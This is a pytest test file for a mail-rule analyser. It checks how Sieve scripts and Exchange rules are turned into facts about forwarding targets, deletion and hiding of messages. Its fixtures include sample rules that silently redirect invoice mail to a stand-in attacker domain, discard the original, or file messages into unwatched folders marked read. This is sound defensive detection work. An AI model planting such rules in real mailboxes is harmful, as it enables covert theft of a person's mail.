"""The rows that follow from a mail flow."""

from collections.abc import Callable
from datetime import UTC, datetime

import pytest

from postwarden.formats.sieve import decode
from postwarden.mailflow.facts import PathFacts, Surroundings, facts
from postwarden.mailflow.keywords import Keywords
from postwarden.model.address import Domains
from postwarden.model.evidence import Folder, MailFlow
from postwarden.model.mailflow import EVERYTHING, Effect, Path
from postwarden.model.reading import Observed
from postwarden.model.scope import account_scope

MakeFolder = Callable[..., Folder]
Rows = Callable[..., list[PathFacts]]


@pytest.fixture
def rows(folder: MakeFolder, shipped: Keywords) -> Rows:
    """The rows of a script, for an account with a subscribed, a hidden and a trash folder."""
    around = Surroundings(
        domains=Domains(internal=("example.org",), partners=("partner.example",)),
        own=("alice@example.org", "alice@home.example"),
        folders=(
            folder("INBOX"),
            folder("News"),
            folder("RSS Feeds", subscribed=False),
            folder("Bin", "trash"),
        ),
        keywords=shipped,
    )

    def read(script: str, *, active: bool = True, without_folders: bool = False) -> list[PathFacts]:
        found = decode(
            script.encode(),
            name="main",
            active=active,
            scope=account_scope("login:alice"),
            source="sieve",
            check="sieve_scripts",
            observed=datetime(2026, 11, 23, tzinfo=UTC),
        )
        flow = next(item.evidence for item in found if isinstance(item, Observed))
        assert isinstance(flow, MailFlow)
        known = around if not without_folders else Surroundings(domains=around.domains, own=around.own)
        return list(facts(flow, known))

    return read


@pytest.mark.parametrize(
    ("script", "target", "target_class", "domain"),
    [
        ('redirect "x@evil.example";', "x@evil.example", "external", "evil.example"),
        ('redirect "x@evil-example.org";', "x@evil-example.org", "external", "evil-example.org"),
        ('redirect "Bob <bob@mail.example.org>";', "bob@mail.example.org", "internal", "mail.example.org"),
        ('redirect "x@partner.example";', "x@partner.example", "partner", "partner.example"),
        ('redirect "Me <Alice@Home.example>";', "Alice@Home.example", "own", "home.example"),
        ('redirect "x@bücher.example";', "x@bücher.example", "external", "xn--bcher-kva.example"),
        ('redirect "sales";', "sales", "unresolved", None),
        (
            'require "variables"; redirect "${x}@example.org";',
            "${x}@example.org",
            "unresolved",
            "example.org",
        ),
        ('notify "mailto:x@evil.example";', "x@evil.example", "external", "evil.example"),
        ('notify "tel:+15550100";', "tel:+15550100", "unresolved", None),
        ('fileinto "News";', "News", "folder", None),
        ('fileinto "a@evil.example";', "a@evil.example", "folder", None),
        ('execute "leak@evil.example";', "leak@evil.example", "none", None),
        ("discard;", None, "none", None),
    ],
)
def test_targets(rows: Rows, script: str, target: str, target_class: str, domain: str | None) -> None:
    """Each target is classed by whose it is, compared per label and in ASCII."""
    (row,) = rows(script)
    assert (row.target, row.target_class, row.target_domain) == (target, target_class, domain)


def test_one_row_for_each_effect_and_target(rows: Rows) -> None:
    """Each effect and each recipient of a path is a row, with the path's facts repeated."""
    found = rows(
        'if header :contains "subject" "invoice" {\n'
        'notify "mailto:a@evil.example,b@example.org"; redirect "x@evil.example"; discard; }'
    )
    assert [(row.effect, row.target) for row in found] == [
        ("notify", "a@evil.example"),
        ("notify", "b@example.org"),
        ("redirect", "x@evil.example"),
        ("delete", None),
    ]
    for row in found:
        assert (row.keywords, row.keyword_classes) == (("invoice",), ("finance",))
        assert (row.keeps_copy, row.deletes, row.everything, row.fires) == ("no", True, False, True)
        assert (row.condition_text, row.line) == ('subject contains "invoice"', 2)


def test_everything(rows: Rows) -> None:
    """A row of an unconditional path says that it holds for every message."""
    assert [(row.everything, row.condition_text) for row in rows('redirect :copy "x@evil.example";')] == [
        (True, "every message")
    ]


def test_what_fires(rows: Rows) -> None:
    """A path fires where the script is active and the path reachable, and the row tells which is missing."""
    (inactive,) = rows('redirect "x@evil.example";', active=False)
    assert (inactive.fires, inactive.enabled, inactive.reachable) == (False, False, True)
    _, dead = rows('stop; redirect "x@evil.example";')
    assert (dead.fires, dead.enabled, dead.reachable) == (False, True, False)


@pytest.mark.parametrize(
    ("script", "keeps", "deletes"),
    [
        ("discard;", "no", True),
        ("discard; keep;", "yes", False),
        ('if header "subject" "a" { keep; } discard;', "depends", True),
        ('redirect "x@evil.example";', "no", False),
        ('redirect :copy "x@evil.example";', "yes", False),
    ],
)
def test_copies(rows: Rows, script: str, keeps: str, *, deletes: bool) -> None:
    """A path deletes where it discards and the owner is not sure to keep a copy."""
    row = next(row for row in rows(script) if row.effect in {"delete", "redirect"})
    assert (row.keeps_copy, row.deletes) == (keeps, deletes)


@pytest.mark.parametrize(
    ("script", "moved_to", "unread", "marked"),
    [
        ('fileinto "News";', "News", False, False),
        ('addflag "\\\\Seen"; fileinto "RSS Feeds";', "RSS Feeds", True, True),
        ('fileinto "Bin";', "Bin", True, False),
        ('fileinto "Brand New";', "Brand New", True, False),
        ('fileinto :copy "RSS Feeds";', None, None, False),
        ('fileinto :copy "RSS Feeds"; discard;', "RSS Feeds", True, False),
        ('fileinto "RSS Feeds"; keep;', None, None, False),
        ('fileinto "RSS Feeds"; fileinto "News";', "News", False, False),
        ('fileinto "inbox";', "inbox", False, False),
        ('redirect :copy "x@evil.example"; fileinto "RSS Feeds";', "RSS Feeds", True, False),
        ('require "variables"; fileinto "${1}";', "${1}", None, False),
        ('fileinto :specialuse "\\\\Trash" "News";', "\\Trash", True, False),
        ("discard;", None, None, False),
    ],
)
def test_hiding(rows: Rows, script: str, moved_to: str | None, *, unread: bool | None, marked: bool) -> None:
    """Every row says where the message is gone to, whether anybody looks there, and whether it is marked read."""
    found = rows(script)
    assert found
    for row in found:
        assert (row.moved_to, row.folder_unread, row.marks_read) == (moved_to, unread, marked)


def test_folders_that_could_not_be_read(rows: Rows) -> None:
    """Without a list of folders nothing is claimed about who looks where."""
    (row,) = rows('fileinto "RSS Feeds";', without_folders=True)
    assert (row.moved_to, row.folder_unread) == ("RSS Feeds", None)


def test_newsletters_in_an_own_folder_stay_innocent(rows: Rows) -> None:
    """Who files newsletters about money into a subscribed folder hides nothing."""
    script = 'if allof (exists "list-id", header :contains "subject" "invoice") { fileinto "News"; }'
    (row,) = rows(script)
    assert (row.keywords, row.folder_unread, row.deletes, row.marks_read) == (
        ("invoice",),
        False,
        False,
        False,
    )


def test_flows_of_other_origins(folder: MakeFolder) -> None:
    """Facts need no script: any flow in the normal form has them."""
    flow = MailFlow(
        scope=account_scope("login:alice"),
        source="exchange",
        check="inbox_rules",
        observed=datetime(2026, 11, 23, tzinfo=UTC),
        origin="sieve_script",
        key="1",
        name="rule",
        enabled=True,
        paths=(
            Path(
                condition=EVERYTHING, effects=(Effect(what="forward_as_attachment", target="x@evil.example"),)
            ),
        ),
    )
    (row,) = facts(flow, Surroundings(domains=Domains(internal=("example.org",))))
    assert (row.target_class, row.keeps_copy, row.line) == ("external", "depends", None)
